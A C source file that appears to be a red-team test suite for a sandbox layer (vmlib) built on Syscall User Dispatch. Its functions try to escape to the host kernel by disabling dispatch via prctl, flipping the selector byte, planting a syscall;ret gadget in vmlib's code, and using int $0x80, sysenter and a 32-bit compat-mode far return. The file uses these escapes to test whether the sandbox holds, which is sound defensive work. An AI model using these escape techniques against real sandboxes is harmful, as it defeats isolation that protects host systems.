/* Other routes to the host kernel than a ready-made gadget: switching
 * Syscall User Dispatch off or flipping its selector byte, writing a gadget
 * into vmlib's text, taking over vmlib's switch to the host, and the legacy
 * system-call instructions. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "redteam.h"

/* A `syscall` in this program's own text: whoever handles it decides. */
static long own_syscall(long nr, long a1, long a2, long a3, long a4) {
    register long r10 asm("r10") = a4;
    asm volatile("syscall" : "+a"(nr) : "D"(a1), "S"(a2), "d"(a3), "r"(r10) : "rcx", "r11", "memory");
    return nr;
}

/* Creates the marker with the program's own `syscall`s. */
static long own_marker(void) {
    long fd = own_syscall(SYS_openat, AT_FDCWD, (long)g_targets.marker, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (fd >= 0) {
        own_syscall(SYS_write, fd, (long)"escaped\n", 8, 0);
        own_syscall(SYS_close, fd, 0, 0, 0);
    }
    return fd;
}

void attack_prctl_sud_off(void) {
    long r = host_syscall(SYS_prctl, 59 /* PR_SET_SYSCALL_USER_DISPATCH */, 0 /* OFF */, 0, 0, 0, 0);
    if (r == kNoHost) {
        contained("prctl(PR_SET_SYSCALL_USER_DISPATCH, OFF): no path to the host kernel");
        return;
    }
    long pid = own_syscall(SYS_getpid, 0, 0, 0, 0);
    if (!looks_like_host_pid(pid)) {
        contained("host prctl answered %ld, but the program's own syscall still reaches the guest", r);
        return;
    }
    escaped("Syscall User Dispatch is off: the program's own syscall is the host's (getpid %ld)", pid);
    if (own_marker() >= 0) escaped("created %s with a plain syscall", g_targets.marker);
}

void attack_selector_flip(void) {
    uint64_t sel = kernel_symbol("_ZN5vmlib2uo19g_dispatch_selectorE");
    if (!sel) {
        contained("no Syscall User Dispatch selector among the guest kernel's symbols");
        return;
    }
    uint8_t was = 0;
    if (!probe_read(sel, &was) || !probe_write(sel, 0 /* SYSCALL_DISPATCH_FILTER_ALLOW */)) {
        contained("the selector byte at %#lx is not writable", (unsigned long)sel);
        return;
    }
    prefault_image();
    long pid = own_syscall(SYS_getpid, 0, 0, 0, 0);
    long fd = looks_like_host_pid(pid) ? own_marker() : -1;
    *(volatile uint8_t*)sel = was;
    if (!looks_like_host_pid(pid)) {
        contained("selector flipped at %#lx, the program's own syscall still reaches the guest", (unsigned long)sel);
        return;
    }
    escaped("selector byte flipped: the program's own syscall is the host's (getpid %ld)", pid);
    if (fd >= 0) escaped("created %s with a plain syscall", g_targets.marker);
}

void attack_vmlib_text_write(void) {
    uint64_t start = kernel_symbol("__vmlib_text_start"), end = kernel_symbol("__vmlib_text_end");
    if (!start || end <= start + 16) {
        contained("vmlib's text range is not among the guest kernel's symbols");
        return;
    }
    /* Code only composite mode runs, so the guest keeps working. */
    uint64_t at = kernel_symbol_containing("cp_setup");
    if (at < start || at + 3 > end) at = end - 4;
    static const uint8_t gadget[3] = {0x0f, 0x05, 0xc3};
    uint8_t saved[3];
    if (probe_copy(at, saved, 3) != 3) {
        contained("vmlib's text at %#lx is not readable", (unsigned long)at);
        return;
    }
    for (int i = 0; i < 3; i++)
        if (!probe_write(at + i, gadget[i])) {
            contained("vmlib's text at %#lx is not writable", (unsigned long)at);
            return;
        }
    note("wrote syscall;ret into vmlib's text at %#lx", (unsigned long)at);
    long pid = 0;
    int sig = call_gadget(at, SYS_getpid, NULL, &pid);
    if (!sig && looks_like_host_pid(pid)) {
        escaped("the planted gadget runs on the host: getpid = %ld", pid);
        long args[6] = {AT_FDCWD, (long)g_targets.marker, O_CREAT | O_WRONLY, 0644, 0, 0}, fd = -1;
        if (!call_gadget(at, SYS_openat, args, &fd) && fd >= 0) escaped("created %s through it", g_targets.marker);
    } else {
        contained("the planted gadget did not reach the host (signal %d, getpid %ld)", sig, pid);
    }
    for (int i = 0; i < 3; i++) probe_write(at + i, saved[i]);
}

struct legacy {
    int sysenter;
    long result;
};

/* i386 getpid through `int $0x80` or `sysenter` in this program's text. */
static void do_legacy(void* p) {
    struct legacy* l = p;
    long r = 20;
    if (l->sysenter)
        asm volatile("sub $128, %%rsp\n\tpush %%rbp\n\tmov %%rsp, %%rbp\n\tsysenter\n\tpop %%rbp\n\tadd $128, %%rsp"
                     : "+a"(r)
                     :
                     : "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
    else
        asm volatile("int $0x80" : "+a"(r) : : "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
    l->result = r;
}

static void legacy(int sysenter) {
    const char* what = sysenter ? "sysenter" : "int $0x80";
    struct legacy l = {sysenter, 0};
    int sig = guarded(do_legacy, &l);
    if (sig) {
        contained("%s (i386 getpid) ended with signal %d", what, sig);
    } else if (looks_like_host_pid(l.result)) {
        escaped("%s (i386 getpid) reached the host kernel: %ld", what, l.result);
    } else {
        contained("%s (i386 getpid) answered %ld inside the guest", what, l.result);
    }
}

void attack_int80_direct(void) { legacy(0); }
void attack_sysenter_direct(void) { legacy(1); }

/* A far return into the host's 32-bit user code segment (0x23 on x86-64
 * Linux), i386 getpid by `int $0x80` there, and a far jump back to 64-bit
 * code (the program is static and below 4 GiB, so the absolute address
 * fits). */
static void do_compat(void* p) {
    long r = 20;
    asm volatile("lea 1f(%%rip), %%rcx\n\t"
                 "pushq $0x23\n\t"
                 "pushq %%rcx\n\t"
                 "lretq\n\t"
                 ".code32\n"
                 "1: int $0x80\n\t"
                 "ljmp $0x33, $2f\n\t"
                 ".code64\n"
                 "2:"
                 : "+a"(r)
                 :
                 : "rcx", "memory");
    *(long*)p = r;
}

void attack_compat_mode(void) {
    long r = 0;
    int sig = guarded(do_compat, &r);
    if (sig) contained("32-bit code on the host's segment ended with signal %d", sig);
    else if (looks_like_host_pid(r)) escaped("i386 getpid from 32-bit code reached the host kernel: %ld", r);
    else contained("i386 getpid from 32-bit code answered %ld inside the guest", r);
}
